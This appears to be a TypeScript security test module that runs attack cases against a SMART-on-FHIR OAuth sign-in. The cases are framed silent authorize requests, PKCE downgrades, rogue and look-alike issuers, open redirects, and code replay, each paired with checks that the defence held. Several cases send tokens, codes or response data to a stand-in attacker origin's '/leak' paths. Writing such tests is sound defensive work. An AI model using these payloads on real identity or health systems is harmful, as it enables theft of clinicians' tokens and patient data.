import type { ExchangeAttack, FrameAttack, LinkAttack } from '../attack-case.ts';
import type { AttackFacts } from '../attack-kit.ts';
import type { AttackEvidence } from '../evidence.ts';
import {
  allOf,
  exchangesAnswered,
  noCodeGiven,
  noTokenOut,
  nothingExchanged,
  nothingLeaked,
  notSentAway,
  realmIntact,
} from '../verdicts.ts';

/** An authorization request as the workplace makes it, with some parameters changed; undefined leaves one out. */
export function authorizeUrl(
  facts: AttackFacts,
  changed: Readonly<Record<string, string | undefined>>,
): string {
  const url = new URL(`${facts.issuer}/authorize`);
  const parameters: Record<string, string | undefined> = {
    client_id: facts.clientId,
    redirect_uri: facts.redirectUri,
    response_type: 'code',
    scope: 'openid fhirUser user/*.cruds',
    aud: facts.fhirBaseUrl,
    state: 'attackers-own-state-of-32-characters',
    nonce: 'attackers-own-nonce',
    code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
    code_challenge_method: 'S256',
    prompt: 'none',
    ...changed,
  };
  for (const [name, value] of Object.entries(parameters))
    if (value !== undefined) url.searchParams.set(name, value);
  return url.href;
}

const rogue = (facts: AttackFacts, mode: string) => `${facts.attackerOrigin}/rogue/${mode}`;

const launchUrl = (facts: AttackFacts, iss: string) => {
  const url = new URL(facts.appUrl);
  url.searchParams.set('iss', iss);
  url.searchParams.set('launch', 'attackers-launch');
  return url.href;
};

/** The frame tries; whatever the authorization server answers is in its journal. */
const inHiddenFrame =
  (changed: Readonly<Record<string, string | undefined>>): FrameAttack['act'] =>
  async (kit) => {
    await kit.join();
    const { issuer, clientId, redirectUri, fhirBaseUrl } = kit.facts;
    const query = new URLSearchParams({
      client_id: clientId,
      redirect_uri: redirectUri,
      response_type: 'code',
      scope: 'openid fhirUser user/*.cruds',
      aud: fhirBaseUrl,
      state: 'attackers-own-state-of-32-characters',
      nonce: 'attackers-own-nonce',
      code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
      code_challenge_method: 'S256',
      prompt: 'none',
    });
    for (const [name, value] of Object.entries(changed)) {
      if (value === undefined) query.delete(name);
      else query.set(name, value);
    }
    const frame = document.createElement('iframe');
    frame.src = `${issuer}/authorize?${query}`;
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
    document.body.append(frame);
    await Promise.race([loaded, new Promise((resolve) => setTimeout(resolve, 1_000))]);
  };

const askedAs = ({ requests }: AttackEvidence) =>
  requests.some(({ url }) => url.startsWith('/auth/authorize'))
    ? undefined
    : 'the authorization server was never asked, so nothing was refused';

/** Every answer that the authorization server gave into a frame says that it will not be framed. */
const neverFramed = ({ requests }: AttackEvidence) => {
  const framed = requests.find(
    ({ server, url, headers, status, answer }) =>
      server === 'simulator' &&
      url.startsWith('/auth/') &&
      headers['sec-fetch-dest'] === 'iframe' &&
      (status < 300 || status >= 400) &&
      !/frame-ancestors 'none'/.test(answer['content-security-policy'] ?? ''),
  );
  return framed && 'a page of the authorization server may be shown in a frame';
};

/** Rows 8 to 13 from inside a plugin's frame. */
export const SIGN_IN_FROM_FRAME: readonly FrameAttack[] = [
  {
    id: 't08-life-of-a-plugin',
    threat: 8,
    kind: 'frame',
    title: 'Does everything a plugin may, and keeps all it is given: search it for tokens',
    rejected: 'No token crosses the port, stands in an address or is sent to the attacker.',
    control: 'bare',
    act: async (kit) => {
      const { lease } = await kit.join();
      const { patient, otherPatient } = kit.facts;
      await kit.call('fhir.read', { lease, reference: `Patient/${patient}` });
      await kit.call('fhir.read', { lease, reference: `Patient/${otherPatient}` });
      await kit.call('fhir.read', { lease, reference: 'Observation/there-is-none' });
      await kit.call('fhir.search', { lease, resourceType: 'Observation', parameters: {} });
      for (const method of ['token', 'auth.token', 'session', 'accessToken', 'context.token'])
        await kit.call(method, {});
    },
    verdict: allOf(realmIntact, noTokenOut),
  },
  {
    id: 't08-server-side-request',
    threat: 8,
    kind: 'frame',
    title: 'Makes the workplace send a request with its token to the attacker’s server',
    rejected: 'Nothing arrives at the attacker.',
    control: 'bare',
    act: async (kit) => {
      const { lease } = await kit.join();
      const address = kit.leakUrl('token');
      for (const reference of [address, address.replace(/^https?:/, ''), `@${new URL(address).host}/leak/x`])
        await kit.call('fhir.read', { lease, reference });
      await kit.call('fhir.search', { lease, resourceType: address, parameters: {} });
      await kit.call('fhir.search', { lease, resourceType: 'Observation', cursor: address.slice(0, 64) });
    },
    verdict: allOf(realmIntact, noTokenOut, nothingLeaked),
  },
  {
    id: 't08-token-endpoint',
    threat: 8,
    kind: 'frame',
    title: 'Asks the token endpoint and the key release from its own page, with whatever cookies there are',
    rejected: 'No answer is given across origins.',
    act: async (kit) => {
      await kit.join();
      const { issuer } = kit.facts;
      const tries = [`${issuer}/token`, `${issuer}/userinfo`, `${new URL(issuer).origin}/keys/outbox`];
      for (const address of tries) {
        await fetch(address, { credentials: 'include' })
          .then((answer) => answer.text())
          .then((text) => fetch(kit.leakUrl(`answer-of-${text.length}-characters`), { mode: 'no-cors' }))
          .catch(() => undefined);
      }
    },
    verdict: allOf(realmIntact, noTokenOut, nothingLeaked),
  },
  {
    id: 't09-silent-authorize',
    threat: 9,
    kind: 'frame',
    title: 'Asks for a code in a hidden frame with prompt=none, on the clinician’s session',
    rejected: 'No code is given, and no page of the authorization server may stand in a frame.',
    act: inHiddenFrame({}),
    verdict: allOf(realmIntact, askedAs, noCodeGiven, neverFramed),
  },
  {
    id: 't09-framed-consent',
    threat: 9,
    kind: 'frame',
    title: 'Shows the sign-in in its own frame, to lead the clinician’s click',
    rejected: 'The page says that it may not be framed.',
    control: 'headers-off',
    act: inHiddenFrame({ prompt: undefined }),
    verdict: allOf(realmIntact, askedAs, noCodeGiven, neverFramed),
  },
  {
    id: 't09-fetched-authorize',
    threat: 9,
    kind: 'frame',
    title: 'Fetches the authorization endpoint with credentials and follows where it leads',
    rejected: 'No code is given.',
    act: async (kit) => {
      await kit.join();
      const { issuer, clientId, redirectUri } = kit.facts;
      const query = new URLSearchParams({
        client_id: clientId,
        redirect_uri: redirectUri,
        response_type: 'code',
        scope: 'openid',
        prompt: 'none',
        state: 'x'.repeat(32),
        code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
        code_challenge_method: 'S256',
      });
      await fetch(`${issuer}/authorize?${query}`, { credentials: 'include', mode: 'no-cors' }).catch(
        () => undefined,
      );
    },
    verdict: allOf(realmIntact, askedAs, noCodeGiven),
  },
  {
    id: 't10-no-challenge-in-frame',
    threat: 10,
    kind: 'frame',
    title: 'Asks for a code without a code challenge, in a frame',
    rejected: 'No code is given.',
    act: inHiddenFrame({ code_challenge: undefined, code_challenge_method: undefined }),
    verdict: allOf(realmIntact, askedAs, noCodeGiven),
  },
  {
    id: 't11-answer-in-frame',
    threat: 11,
    kind: 'frame',
    title: 'Loads the workplace’s redirect address in a frame, with a code of another server',
    rejected: 'The workplace exchanges nothing.',
    act: async (kit) => {
      await kit.join();
      const frame = document.createElement('iframe');
      frame.src = `${kit.facts.redirectUri}?code=attackers-code&state=attackers-state&iss=${encodeURIComponent(kit.facts.attackerOrigin)}`;
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
      document.body.append(frame);
      await Promise.race([loaded, new Promise((resolve) => setTimeout(resolve, 1_000))]);
    },
    verdict: allOf(realmIntact, nothingExchanged),
  },
  {
    id: 't12-replayed-launch-in-frame',
    threat: 12,
    kind: 'frame',
    title: 'Launches the app in a frame with a launch id that it made up',
    rejected: 'No code is given.',
    act: async (kit) => {
      await kit.join();
      const { appUrl, fhirBaseUrl } = kit.facts;
      const frame = document.createElement('iframe');
      frame.src = `${appUrl}?iss=${encodeURIComponent(fhirBaseUrl)}&launch=made-up`;
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
      document.body.append(frame);
      await Promise.race([loaded, new Promise((resolve) => setTimeout(resolve, 1_000))]);
    },
    verdict: allOf(realmIntact, noCodeGiven, nothingExchanged),
  },
  {
    id: 't13-rogue-iss-in-frame',
    threat: 13,
    kind: 'frame',
    title: 'Launches the app in a frame with the attacker’s server as its issuer',
    rejected: 'The attacker’s server is not even asked.',
    act: async (kit) => {
      await kit.join();
      const { appUrl, attackerOrigin } = kit.facts;
      const frame = document.createElement('iframe');
      frame.src = `${appUrl}?iss=${encodeURIComponent(`${attackerOrigin}/leak/fhir`)}&launch=x`;
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
      document.body.append(frame);
      await Promise.race([loaded, new Promise((resolve) => setTimeout(resolve, 1_000))]);
    },
    verdict: allOf(realmIntact, nothingLeaked, nothingExchanged),
  },
];

const link = (
  attack: Pick<LinkAttack, 'id' | 'threat' | 'title' | 'links' | 'rejected' | 'verdict'> &
    Partial<LinkAttack>,
): LinkAttack => ({ kind: 'link', needs: ['new-tab'], ...attack });

const notRedirected = ({ requests }: AttackEvidence) => {
  const away = requests.find(({ server, url }) => server === 'attacker' && !url.startsWith('/favicon'));
  return away && `the browser was sent to the attacker: ${away.url}`;
};

/** Issuers that look like the right one. */
const LOOK_ALIKES: readonly (readonly [string, string, (facts: AttackFacts) => string])[] = [
  [
    'userinfo',
    'hides behind the right host as its user name',
    ({ fhirBaseUrl, attackerOrigin }) =>
      `http://${new URL(fhirBaseUrl).host}@${new URL(attackerOrigin).host}/fhir`,
  ],
  [
    'sub-domain',
    'begins with the right host',
    ({ fhirBaseUrl, attackerOrigin }) =>
      `http://${new URL(fhirBaseUrl).hostname}.evil.localhost:${new URL(attackerOrigin).port}/fhir`,
  ],
  [
    'trailing-dot',
    'has a dot behind the host',
    ({ fhirBaseUrl }) => fhirBaseUrl.replace('localhost', 'localhost.'),
  ],
  ['scheme-relative', 'has no scheme', ({ attackerOrigin }) => `${attackerOrigin.replace('http:', '')}/fhir`],
  [
    'look-alike-letter',
    'has a Cyrillic letter in its host',
    ({ fhirBaseUrl }) => fhirBaseUrl.replace('localhost', 'l\u043ecalhost'),
  ],
  [
    'right-as-path',
    'carries the right address as its path',
    ({ fhirBaseUrl, attackerOrigin }) => `${attackerOrigin}/${fhirBaseUrl}`,
  ],
  ['trailing-path', 'goes on behind the right address', ({ fhirBaseUrl }) => `${fhirBaseUrl}/../evil`],
  ['script', 'is a script', () => 'javascript:globalThis.__samspilAttacked=true'],
];

/** Rows 7 and 10 to 13 by a link that the signed-in clinician opens. */
export const SIGN_IN_BY_LINK: readonly LinkAttack[] = [
  link({
    id: 't10-no-challenge',
    threat: 10,
    title: 'Leads the clinician to the authorization server without a code challenge',
    rejected: 'No code is given.',
    control: 'pkce-off',
    links: (facts) => [authorizeUrl(facts, { code_challenge: undefined, code_challenge_method: undefined })],
    verdict: allOf(askedAs, noCodeGiven),
  }),
  link({
    id: 't10-plain-challenge',
    threat: 10,
    title: 'Leads the clinician there with the method plain, and with none',
    rejected: 'No code is given.',
    links: (facts) => [
      authorizeUrl(facts, { code_challenge_method: 'plain' }),
      authorizeUrl(facts, { code_challenge_method: undefined }),
      authorizeUrl(facts, { code_challenge_method: 's256' }),
    ],
    verdict: allOf(askedAs, noCodeGiven),
  }),
  link({
    id: 't10-server-without-s256',
    threat: 10,
    title: 'Launches the app against a trusted server that no longer says it knows S256',
    rejected: 'The browser is not sent to its authorization endpoint.',
    control: 'launch-off',
    links: (facts) => [launchUrl(facts, rogue(facts, 'without-s256'))],
    verdict: ({ requests }) =>
      requests.some(({ url }) => url.includes('/rogue/without-s256/authorize'))
        ? 'the app began a sign-in without S256'
        : undefined,
  }),
  link({
    id: 't11-swapped-answer',
    threat: 11,
    title: 'A trusted server answers the sign-in with another server’s name and a code of its own',
    rejected: 'The app sends the code to no token endpoint.',
    control: 'launch-off',
    links: (facts) => [launchUrl(facts, rogue(facts, 'other-issuer'))],
    verdict: allOf(
      ({ requests }) =>
        requests.some(({ url }) => url.includes('/rogue/other-issuer/authorize'))
          ? undefined
          : 'the sign-in never began, so nothing was refused',
      nothingExchanged,
    ),
  }),
  link({
    id: 't11-unnamed-answer',
    threat: 11,
    title: 'A trusted server that promises to name itself in its answer leaves its name out',
    rejected: 'The app sends the code to no token endpoint.',
    control: 'launch-off',
    links: (facts) => [launchUrl(facts, rogue(facts, 'no-issuer'))],
    verdict: allOf(
      ({ requests }) =>
        requests.some(({ url }) => url.includes('/rogue/no-issuer/authorize'))
          ? undefined
          : 'the sign-in never began, so nothing was refused',
      nothingExchanged,
    ),
  }),
  link({
    id: 't12-unknown-state',
    threat: 12,
    title: 'Opens the app with a code and a state that it never made',
    rejected: 'The app sends the code nowhere.',
    links: ({ appUrl }) => [
      `${appUrl}?code=attackers-code&state=attackers-state`,
      `${appUrl}?code=attackers-code`,
      `${appUrl}?code=attackers-code&state=__proto__`,
    ],
    verdict: nothingExchanged,
  }),
  link({
    id: 't12-unknown-launch',
    threat: 12,
    title: 'Opens the app with a launch id that the workplace never made',
    rejected: 'No code is given.',
    links: ({ appUrl, fhirBaseUrl }) => [`${appUrl}?iss=${encodeURIComponent(fhirBaseUrl)}&launch=made-up`],
    verdict: allOf(askedAs, noCodeGiven, nothingExchanged),
  }),
  link({
    id: 't13-foreign-redirect',
    threat: 13,
    title: 'Asks for the code to be sent to the attacker, and to addresses that look like the registered one',
    rejected: 'The browser is not sent to the attacker, and no code is given.',
    links: (facts) => {
      const { attackerOrigin, redirectUri } = facts;
      const { host } = new URL(attackerOrigin);
      return [
        `${attackerOrigin}/leak/code`,
        redirectUri.replace('http://', 'http://x@').replace(/localhost:\d+/, host),
        `${redirectUri}../leak`,
        `${redirectUri}#x`,
        `//${host}/leak/code`,
      ].map((address) => authorizeUrl(facts, { redirect_uri: address, prompt: undefined }));
    },
    verdict: allOf(askedAs, noCodeGiven, notRedirected),
  }),
  link({
    id: 't13-logout-redirect',
    threat: 13,
    title: 'Lets the sign-out lead on to the attacker',
    rejected: 'The browser is not sent to the attacker.',
    links: ({ issuer, clientId, attackerOrigin }) => [
      `${issuer}/logout?client_id=${clientId}&post_logout_redirect_uri=${encodeURIComponent(`${attackerOrigin}/leak/out`)}`,
      `${issuer}/logout?post_logout_redirect_uri=${encodeURIComponent(`${attackerOrigin}/leak/out`)}`,
    ],
    verdict: notRedirected,
  }),
  ...LOOK_ALIKES.map(([name, what, iss]) =>
    link({
      id: `t13-iss-${name}`,
      threat: 13,
      title: `Launches the app with an issuer that ${what}`,
      rejected: 'The app asks no server, and sends the browser nowhere.',
      // These three reach no server in any browser, whoever trusts them.
      control: /userinfo|letter|script/.test(name) ? undefined : 'launch-off',
      links: (facts) => [launchUrl(facts, iss(facts))],
      verdict: allOf(nothingExchanged, notSentAway, ({ requests, realm }) => {
        if (realm.ranCode) return 'the issuer ran as a script';
        const asked = requests.find(({ url }) => url.includes('smart-configuration'));
        return asked && 'the app asked a server it does not trust';
      }),
    }),
  ),
];

/** Rows 10 and 12 at the token endpoint. */
export const EXCHANGES: readonly ExchangeAttack[] = [
  {
    id: 't10-no-verifier',
    threat: 10,
    kind: 'exchange',
    title: 'Exchanges a stolen code without its verifier, and with another one',
    rejected: 'No tokens are given.',
    exchanges: ({ code, clientId, redirectUri }) => {
      const request = {
        grant_type: 'authorization_code',
        code,
        client_id: clientId,
        redirect_uri: redirectUri,
      };
      return [request, { ...request, code_verifier: 'another-verifier-of-forty-three-characters-x' }];
    },
    verdict: allOf(exchangesAnswered(0), ({ requests }) =>
      requests.length < 1 ? 'nothing was asked' : undefined,
    ),
  },
  {
    id: 't10-code-of-another-client',
    threat: 10,
    kind: 'exchange',
    title: 'Exchanges another app’s code, with its verifier, as a client of its own',
    rejected: 'No tokens are given.',
    exchanges: ({ code, verifier, redirectUri }, { appClientId }) => [
      {
        grant_type: 'authorization_code',
        code,
        code_verifier: verifier,
        client_id: appClientId,
        redirect_uri: redirectUri,
      },
    ],
    verdict: exchangesAnswered(0),
  },
  {
    id: 't12-code-twice',
    threat: 12,
    kind: 'exchange',
    title: 'Exchanges a code that the honest app has exchanged already',
    rejected: 'Only the first gets tokens.',
    exchanges: ({ code, verifier, clientId, redirectUri }) => {
      const request = {
        grant_type: 'authorization_code',
        code,
        code_verifier: verifier,
        client_id: clientId,
        redirect_uri: redirectUri,
      };
      return [request, request];
    },
    verdict: allOf(exchangesAnswered(1), ({ requests }) =>
      requests.filter(({ status }) => status === 200).length === 1 ? undefined : 'the honest exchange failed',
    ),
  },
];
